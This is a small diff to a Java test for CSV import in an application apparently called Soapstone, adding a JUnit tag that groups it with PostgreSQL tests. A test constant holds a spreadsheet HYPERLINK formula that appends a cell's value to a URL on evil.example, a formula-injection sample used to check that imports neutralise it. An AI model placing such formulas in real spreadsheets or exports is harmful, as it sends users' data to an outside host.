@@ -6,6 +6,7 @@ import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
 import org.apache.commons.csv.CSVPrinter;
 import org.apache.commons.csv.CSVRecord;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -27,6 +28,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  * imported as they are; and a file Soapstone exported comes back exactly as it was stored, the
  * quote the export put before such cells taken off again.
  */
+@Tag(SoapstoneTest.POSTGRESQL)
 class ClientImportFormulasTest extends SoapstoneTest {
 
     private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ann\")";
